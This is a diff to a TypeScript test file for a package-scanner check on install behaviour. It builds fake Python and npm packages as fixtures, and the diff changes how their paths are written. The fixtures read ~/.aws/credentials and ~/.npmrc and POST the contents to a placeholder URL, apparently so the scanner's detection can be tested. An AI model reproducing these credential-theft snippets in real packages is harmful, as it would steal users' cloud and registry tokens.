@@ -45,14 +45,14 @@ describe('checks/package/install-behaviour', () => {
       inWheel({
         'colorkit/__init__.py': `from .a import load\nfrom .b import send\nsend(${argument})\n`,
         'colorkit/a.py':
-          'from pathlib import Path\ndef load():\n  return Path.home().joinpath(".aws", "credentials").read_text()\n',
+          'import os\ndef load():\n  return open(os.path.expanduser("~") + "/.aws/credentials").read()\n',
         'colorkit/b.py': `import requests\ndef send(x):\n  requests.post('${U}', data=x)\n`,
       });
     const inScript = (index: string): Promise<readonly string[]> =>
       inNpm({
         'index.js': index,
         'lib/grab.js':
-          'const fs=require("fs"),os=require("os"),p=require("path");exports.grab=()=>fs.readFileSync(p.join(os.homedir(),".npmrc"),"utf8");',
+          'const fs=require("fs"),os=require("os");exports.grab=()=>fs.readFileSync(os.homedir()+"/.npmrc","utf8");',
         'lib/post.js': `module.exports=b=>fetch("${U}",{method:"POST",body:b});`,
       });
     const loads = 'const {grab}=require("./lib/grab");const post=require("./lib/post");';
